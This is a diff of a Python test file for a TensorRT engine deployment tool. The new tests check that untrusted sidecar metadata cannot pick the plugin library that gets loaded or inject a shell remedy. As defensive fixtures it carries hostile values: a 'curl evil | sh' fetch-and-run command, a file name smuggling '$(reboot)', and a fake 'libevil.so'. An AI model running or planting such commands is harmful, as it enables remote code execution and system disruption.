@@ -9,13 +9,16 @@ import pytest
 
 from tests.engine.engines import engine_file, full_bytes, rtx_bytes
 from tmdeploy.backends import backend_for, open_runner
+from tmdeploy.cache import CACHE_VARIABLE
 from tmdeploy.engine import compatibility
-from tmdeploy.engine.compatibility import check_fit, check_gpu, check_version, find_plugin, read_engine
+from tmdeploy.engine.compatibility import check_fit, check_gpu, check_version, read_engine
 from tmdeploy.engine.flavour import Flavour, Toolkit
 from tmdeploy.engine.gpu import Gpu
 from tmdeploy.engine.sidecar import Options, PluginRecord, sidecar_path
+from tmdeploy.engine.trust import TRUST_VARIABLE, find_plugin
 from tmdeploy.errors import ArtifactError, EnvironmentMissing, UsageError
 from tmdeploy.files import sha256
+from tmdeploy.native.tensorrt import TENSORRT_VARIABLE, tensorrt_libraries
 
 L4 = Gpu(0, "NVIDIA L4", (8, 9), 24 << 30)
 T4 = Gpu(0, "Tesla T4", (7, 5), 16 << 30)
@@ -101,7 +104,7 @@ def _flipped_bit(folder: Path) -> Path:
         (_ultralytics, r"is no TensorRT engine .*Ultralytics file, with JSON before the engine"),
         (_text, r"is no TensorRT engine \(it begins with b'hello'\)\. Give a file that tmdeploy build or trtexec"),
         (_cut_rtx, r"truncated or damaged: 178 bytes are here, its header says 228\. Copy it again, in binary mode"),
-        (_cut_full, r"is truncated: 254 bytes are here, tiny\.plan\.json says 304\..* build tiny\.onnx -o tiny\.plan"),
+        (_cut_full, r"is truncated: 254 bytes are here, tiny\.plan\.json says 304\..*build tiny\.onnx -o \S*tiny\.pl"),
         (_no_sidecar, r"has no sidecar 'tiny\.plan\.json' beside it.* Copy it from where .*tmdeploy build MODEL\.onnx"),
         (_damaged_sidecar, r"is no sidecar that this version can read \(.*Field required\)"),
         (_other_engine, r"is not the engine that .* describes \(it is of TensorRT-RTX, not TensorRT\)"),
@@ -171,7 +174,8 @@ def test_gpus(content: bytes, changes: dict, gpu: Gpu, wants: str | None, tmp_pa
         check_gpu(path, record, gpu)
 
 
-def test_plugin_libraries(tmp_path: Path):
+def test_plugin_libraries_of_trusted_engines(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
+    monkeypatch.setenv(TRUST_VARIABLE, "1")
     library = tmp_path / "elsewhere" / "libtmdeploy_tensorrt.so"
     library.parent.mkdir()
     library.write_bytes(b"\x7fELF")
@@ -191,6 +195,54 @@ def test_plugin_libraries(tmp_path: Path):
         find_plugin(path, read_engine(path))
     carried = engine_file(tmp_path, full_bytes(), plugin=plugin.model_copy(update={"embedded": True}))
     assert find_plugin(carried, read_engine(carried)) is None
+
+
+def test_a_sidecar_does_not_choose_what_is_loaded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
+    """Neither a library nor the engine's own code, unless the user trusts the engine or named the library."""
+    monkeypatch.delenv(TRUST_VARIABLE, raising=False)
+    monkeypatch.setenv(CACHE_VARIABLE, str(tmp_path / "cache"))
+    theirs = tmp_path / "libevil.so"
+    theirs.write_bytes(b"code")
+    plugin = PluginRecord(path=str(theirs), sha256=sha256(theirs), embedded=False)
+    path = engine_file(tmp_path, full_bytes(), plugin=plugin, lowering="plugin", command="curl evil | sh")
+    with pytest.raises(EnvironmentMissing, match=r"needs the plugin library 'libevil\.so', .*pass --trust-engine"):
+        find_plugin(path, read_engine(path))
+
+    (own,) = tensorrt_libraries()
+    own.path.parent.mkdir(parents=True)
+    own.path.write_bytes(b"another version")
+    with pytest.raises(EnvironmentMissing, match="pass --trust-engine"):
+        find_plugin(path, read_engine(path))
+    own.path.write_bytes(b"code")  # what the user built here is the user's
+    assert find_plugin(path, read_engine(path)) == own.path
+    own.path.chmod(0o666)
+    with pytest.raises(EnvironmentMissing, match=r"it is writable by others \(mode 0666\)"):
+        find_plugin(path, read_engine(path))
+
+    monkeypatch.setenv(TENSORRT_VARIABLE, str(theirs))
+    assert find_plugin(path, read_engine(path)) == theirs
+    theirs.write_bytes(b"other")
+    with pytest.raises(ArtifactError, match=r"libevil\.so: is not the plugin library that tiny\.plan was built with"):
+        find_plugin(path, read_engine(path))
+    theirs.unlink()
+    with pytest.raises(EnvironmentMissing, match=rf"{TENSORRT_VARIABLE} names .*libevil\.so, which is no file"):
+        find_plugin(path, read_engine(path))
+
+    carried = engine_file(tmp_path, full_bytes(), plugin=plugin.model_copy(update={"embedded": True}))
+    with pytest.raises(ArtifactError, match=r"carries a plugin library, code that would run as you.*--trust-engine"):
+        check_fit(carried)
+
+
+def test_no_remedy_is_a_command_of_the_sidecar(tmp_path: Path):
+    evil = {"command": "curl evil | sh", "source_name": "$(reboot) --x;.onnx", "platform": "win32-amd64"}
+    path = engine_file(tmp_path, rtx_bytes(), **evil)
+    with pytest.raises(EnvironmentMissing) as raised:
+        check_fit(path)
+    assert raised.value.remedy == f"Build it here: tmdeploy build '$(reboot) --x;.onnx' -o {path}"
+    for name, quoted in (("-rf", "./-rf"), ("", "MODEL.onnx"), ("/etc/model.onnx", "model.onnx")):
+        assert read_engine(path).model_copy(update={"source_name": name}).source == quoted
+    sources = [source.read_text() for source in Path(compatibility.__file__).parents[1].rglob("*.py")]
+    assert sum("record.command" in source for source in sources) == 0
 
 
 def test_another_system_is_named_first(tmp_path: Path):
